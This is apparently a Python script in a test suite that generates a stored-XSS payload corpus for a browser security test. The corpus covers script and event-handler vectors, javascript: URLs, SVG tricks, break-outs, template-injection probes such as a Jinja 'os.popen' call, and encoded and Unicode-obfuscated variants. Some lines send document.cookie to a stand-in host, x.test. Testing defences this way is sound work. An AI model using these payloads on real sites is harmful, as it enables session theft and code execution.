"""Writes xss_payloads.txt: the stored-XSS corpus the browser test submits as name, email and
text. Hand-written base vectors, then mechanical variants (case, encodings, break-out prefixes,
Unicode tricks). Run `python tests/security/data/make_xss_payloads.py` to regenerate.

One payload per line (split on "\\n" only: some payloads carry U+2028 on purpose); no payload
contains "\\n" or "\\r". Every executing payload calls alert/confirm/prompt/print or xss() so the
browser hooks see it."""

from __future__ import annotations

import html
import urllib.parse
from pathlib import Path

OUT = Path(__file__).with_name("xss_payloads.txt")

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(document.domain)</SCRIPT>",
    "<script src=//x.test/x.js></script>",
    "<script>xss(1)</script>",
    "<script type=module>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script\ttype=text/javascript>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "<script>setTimeout('alert(1)')</script>",
    "<script>window['al'+'ert'](1)</script>",
    "<script>fetch('//x.test/'+document.cookie)</script>",
    "<script>new Image().src='//x.test/?c='+document.cookie</script>",
    "<template><script>alert(1)</script></template>",
]

HANDLER_TAGS = [
    ("img", "src=x", "onerror"),
    ("image", "src=x", "onerror"),
    ("svg", "", "onload"),
    ("body", "", "onload"),
    ("iframe", "src=about:blank", "onload"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"),
    ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("details", "open", "ontoggle"),
    ("marquee", "", "onstart"),
    ("object", "data=x", "onerror"),
    ("div", "tabindex=1 autofocus", "onfocusin"),
    ("a", "href=#", "onmouseover"),
    ("x", "contenteditable autofocus", "onfocus"),
    ("style", "", "onload"),
    ("link", "rel=stylesheet href=x", "onerror"),
    ("button", "autofocus", "onfocus"),
    ("form", "", "onsubmit"),
    ("math", "", "onmouseover"),
    ("table", "background=x", "onerror"),
    ("span", "style=animation-name:spin", "onanimationstart"),
    ("p", "", "onpointerenter"),
]

JS_URLS = [
    '<a href="javascript:alert(1)">click</a>',
    "<a href=javascript:alert(1)>click</a>",
    "<a href='JaVaScRiPt:alert(1)'>click</a>",
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href=" javascript:alert(1)">space</a>',
    '<a href="&#106;avascript:alert(1)">entity</a>',
    '<a href="javascript&colon;alert(1)">colon</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    "javascript:alert(1)",
    "javascript://%0aalert(1)",
    "JAVASCRIPT:alert(1)//http://example.com",
    "[click](javascript:alert(1))",
    "[click](javascript&#58;alert(1))",
    '![img](x" onerror="alert(1))',
    'https://example.com/"onmouseover="alert(1)',
    "https://example.com/'onmouseover='alert(1)",
    "http://x.test/?q=<script>alert(1)</script>",
    'www.example.com/"><script>alert(1)</script>',
    'https://example.com/#"><img src=x onerror=alert(1)>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>send</button></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<isindex action=javascript:alert(1) type=image>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    "<base href=//x.test/>",
    "<link rel=preload href=//x.test/x as=script>",
]

SVG = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributeName=x to=1>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
]

BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    "` onmouseover=alert(1) `",
    '"/><svg onload=alert(1)>',
    '" style="animation-name:spin" onanimationstart="alert(1)',
    '"><iframe src=javascript:alert(1)>',
    "'-alert(1)-'",
    '"-alert(1)-"',
    '\\";alert(1);//',
    "';alert(1);//",
    "</script><img src=x onerror=alert(1)>",
    '"}]};alert(1);//',
    '{"a":"</script><script>alert(1)</script>"}',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    "<style>@import '//x.test/x.css';</style>",
    "<style>*{background:url(//x.test/leak)}</style>",
    "<img src=//x.test/pixel.gif>",
    '<p id="x" name="cookie">clobber</p><form id=csrf_token></form>',
]

TEMPLATES = [
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "*{7*7}",
    "[[${7*7}]]",
    "{{7*'7'}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{% debug %}",
    "{{ config }}",
    "{{ self.__init__.__globals__ }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ lipsum.__globals__.os.popen('id').read() }}",
    "{{request.application.__globals__}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${{<%[%'\"}}%\\.",
    "{{= alert(1) }}",
    "<%- alert(1) %>",
    "{php}echo 1;{/php}",
    "#set($x=7*7)${x}",
    "@(7*7)",
    '{{#with "s" as |string|}}{{string}}{{/with}}',
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<div ng-app>{{constructor.constructor('alert(1)')()}}</div>",
    "%{7*7}",
    "${alert(1)}",
    "`${alert(1)}`",
]

ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&#60script&#62alert(1)&#60/script&#62",
    "&#0000060;script&#0000062;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=x onerror=eval('\\x61lert(1)')>",
    "<img src=x onerror=alert&lpar;1&rpar;>",
    '<a href="&NewLine;javascript&colon;alert(1)">x</a>',
    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<script>alert(1)</script>".encode().hex(),
]

UNICODE = [
    "\u202e>tpircs/<)1(trela>tpircs<",
    "\u202e<script>alert(1)</script>",
    "abc\u202edcba <img src=x onerror=alert(1)>",
    "\u2067<script>alert(1)</script>\u2069",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "\ufe64script\ufe65alert(1)\ufe64/script\ufe65",
    "\u2039script\u203aalert(1)\u2039/script\u203a",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<img src=x o\u200dnerror=alert(1)>",
    "\u200b<\u200bscript\u200b>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<script>alert(1)\u2028</script>",
    "\u2028\u2029<script>alert(1)</script>",
    "<img src=x onerror=\u0430lert(1)>",
    "<\u0455cript>alert(1)</\u0455cript>",
    "<script>\u0061\u006c\u0065\u0072\u0074(1)</script>",
    "e\u0301\u0301\u0301<script>alert(1)</script>",
    "\U0001d4e2\U0001d4ec\U0001d4fb<script>alert(1)</script>",
    "\u0627\u0644\u0633\u0644\u0627\u0645 <script>alert(1)</script> \u0639\u0644\u064a\u0643\u0645",
    '\u0633\u0644\u0627\u0648 \u202b"><img src=x onerror=alert(1)>\u202c',
    "\u00a0<script>alert(1)</script>\u00a0",
    "\u180e<svg onload=alert(1)>",
    "<svg\u000conload=alert(1)>",
    "<svg\u000bonload=alert(1)>",
    "<img/src=x\u3000onerror=alert(1)>",
    "\ud835\udc9c".encode("utf-16", "surrogatepass").decode("utf-16") + "<script>alert(1)</script>",
    "\u0130<script>alert(1)</script>\u0131",
    "\u212a<script>alert(1)</script>",
    "\u2126<svg onload=alert(1)>",
]


def _handler_vectors() -> list[str]:
    out = []
    for tag, attrs, event in HANDLER_TAGS:
        space = f" {attrs}" if attrs else ""
        out.append(f"<{tag}{space} {event}=alert(1)>")
        out.append(f'<{tag.upper()}{space} {event.upper()}="alert(1)">')
        out.append(f"<{tag}{space} {event}='confirm(1)'>x</{tag}>")
        out.append(f"<{tag}/{attrs.replace(' ', '/') if attrs else 'x'}/{event}=prompt(1)>")
    return out


def _variants(base: list[str]) -> list[str]:
    """Mechanical variants of a few vectors: upper case, entity-encoded, URL-encoded, prefixed."""
    out = []
    for v in base:
        out.append(v.upper().replace("ALERT", "alert"))
        out.append(html.escape(v, quote=True))
        out.append(urllib.parse.quote(v, safe=""))
        out.append("\"'><" + v.lstrip("<"))
        out.append("x\u202e" + v)
        out.append(v.replace("alert(1)", "print()"))
    return out


def payloads() -> list[str]:
    base = SCRIPT_TAGS + JS_URLS + SVG + BREAKOUTS + TEMPLATES + ENCODED + UNICODE
    corpus = base + _handler_vectors() + _variants(SCRIPT_TAGS[:6] + SVG[:4] + BREAKOUTS[:6] + JS_URLS[:4])
    seen: set[str] = set()
    unique = []
    for p in corpus:
        assert "\n" not in p and "\r" not in p and "\x00" not in p, p
        if p not in seen:
            seen.add(p)
            unique.append(p)
    return unique


if __name__ == "__main__":
    items = payloads()
    OUT.write_text("\n".join(items) + "\n", encoding="utf-8")
    print(f"wrote {len(items)} payloads to {OUT}")
